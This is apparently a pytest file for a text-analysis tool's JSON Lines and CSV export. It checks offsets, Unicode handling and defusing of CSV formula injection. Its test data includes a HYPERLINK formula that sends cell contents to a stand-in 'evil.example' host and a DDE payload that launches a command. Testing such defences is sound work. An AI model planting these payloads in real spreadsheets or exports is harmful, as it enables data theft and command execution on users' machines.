"""Exports read back: JSON Lines records and CSV rows carry exact offsets and texts, safely."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from helpers import SEED, analyze_with
from scrutiny.export import CSV_COLUMNS, export, guard_cell, unguard_cell
from scrutiny.model import Analysis, Annotation, Document, Span
from scrutiny.store.sqlite import SQLiteStore

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click") is what the attacker wrote.\n'
    "+1 555 0100, -2 degrees, @SUM(A1:A9), \ttabbed, 'quoted' and \u2028 a line separator."
)


def _analysis_at(text: str, *needles: str, title: str | None = None) -> Analysis:
    """An analysis with one annotation on the first occurrence of each needle."""
    doc = Document.from_text(text, title=title)
    anns = []
    for i, needle in enumerate(needles, start=1):
        at = doc.text.index(needle)
        span = Span(at, at + len(needle))
        attrs = {"value": needle, "n": i}
        anns.append(Annotation(f"x{i}", "signal", span, "=cmd|' /C calc'!A0", "t", "1", 0.5, attrs))
    return Analysis(doc, tuple(anns), {"signal": {"analyzer": "t", "version": "1"}})


@pytest.fixture(scope="module")
def seed_analysis() -> Analysis:
    return analyze_with(SEED.read_text(encoding="utf-8"))


def _csv(analyses: list[Analysis]) -> tuple[int, list[dict[str, str]], str]:
    out = io.StringIO(newline="")
    n = export(analyses, "csv", out)
    raw = out.getvalue()
    return n, list(csv.DictReader(io.StringIO(raw, newline=""))), raw


def test_jsonl_round_trip(seed_analysis: Analysis) -> None:
    hostile = _analysis_at(HOSTILE, "=HYPERLINK", title="Line\u2029break")
    out = io.StringIO()
    assert export([seed_analysis, hostile], "jsonl", out) == 2
    text = out.getvalue()
    lines = text.splitlines()  # splits at U+2028 too: records must not contain one raw
    assert len(lines) == 2 and text.endswith("\n")
    records = [json.loads(line) for line in lines]
    assert records[0] == seed_analysis.to_dict()
    assert records[1] == hostile.to_dict()
    assert records[1]["document"]["text"] == hostile.document.text
    assert "\u2028" not in text and "\\u2028" in text
    assert "Bishkek" in lines[0]  # not ASCII-escaped: ensure_ascii=False


def test_csv_rows_give_exact_offsets_and_texts(seed_analysis: Analysis) -> None:
    n, rows, _ = _csv([seed_analysis])
    assert n == 1
    assert len(rows) == len(seed_analysis.annotations) > 10
    assert tuple(rows[0]) == CSV_COLUMNS
    text = seed_analysis.document.text
    for row, ann in zip(rows, seed_analysis.annotations, strict=True):
        start, end = int(row["start"]), int(row["end"])
        assert (start, end) == (ann.span.start, ann.span.end)
        assert unguard_cell(row["text"]) == text[start:end]
        assert row["doc_id"] == seed_analysis.document.id
        assert (row["layer"], row["id"], row["label"]) == (ann.layer, ann.id, ann.label)
        assert float(row["confidence"]) == ann.confidence
        assert json.loads(row["attrs"]) == dict(ann.attrs)


def test_csv_formula_injection_is_defused() -> None:
    needles = ("=HYPERLINK", "+1 555", "-2 degrees", "@SUM", "\ttabbed", "'quoted'", "attacker")
    a = _analysis_at(HOSTILE, *needles)
    _, rows, raw = _csv([a])
    cells = {row["id"]: row for row in rows}
    for i, needle in enumerate(needles, start=1):
        cell = cells[f"x{i}"]["text"]
        if needle[0] in "=+-@\t'":
            assert cell == "'" + needle
        else:
            assert cell == needle
        assert unguard_cell(cell) == needle
        assert cells[f"x{i}"]["label"] == "'=cmd|' /C calc'!A0"
    # No line of the file starts a cell with a formula character.
    for line in raw.splitlines():
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_guard_cell_is_reversible() -> None:
    for value in ("", "plain", "=1+1", "'", "''x", "-", "@", "\r\nx", "'=x"):
        guarded = guard_cell(value)
        assert not guarded.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert unguard_cell(guarded) == value


def test_csv_keeps_newlines_and_unicode_inside_cells() -> None:
    text = 'First line.\nSecond line with ‘quotes’, "doubles", commas, 🙂 and مرحبا.'
    a = _analysis_at(text, "line.\nSecond", "🙂 and مرحبا")
    _, rows, _ = _csv([a])
    assert [r["text"] for r in rows] == ["line.\nSecond", "🙂 and مرحبا"]


def test_empty_and_unknown(tmp_path: Path) -> None:
    out = io.StringIO()
    assert export([], "csv", out) == 0
    assert out.getvalue().strip() == ",".join(CSV_COLUMNS)
    assert export([], "jsonl", io.StringIO()) == 0
    with pytest.raises(ValueError, match="unknown export format"):
        export([], "xml", io.StringIO())  # type: ignore[arg-type]


def test_export_from_store_file(tmp_path: Path, seed_analysis: Analysis) -> None:
    other = _analysis_at(HOSTILE, "=HYPERLINK", "attacker")
    with SQLiteStore.open(tmp_path / "s.db") as store:
        store.add(seed_analysis)
        store.add(other)
        target = tmp_path / "all.csv"
        with target.open("w", encoding="utf-8", newline="") as fh:
            assert export(store.iter_analyses(), "csv", fh) == 2
        jsonl = tmp_path / "all.jsonl"
        with jsonl.open("w", encoding="utf-8") as fh:
            assert export(store.iter_analyses(), "jsonl", fh) == 2
    with target.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(seed_analysis.annotations) + 2
    assert {r["doc_id"] for r in rows} == {seed_analysis.document.id, other.document.id}
    records = [json.loads(line) for line in jsonl.read_text(encoding="utf-8").splitlines()]
    assert [r["document"]["id"] for r in records] == [
        seed_analysis.document.id,
        other.document.id,
    ]
    assert records[0] == seed_analysis.to_dict()
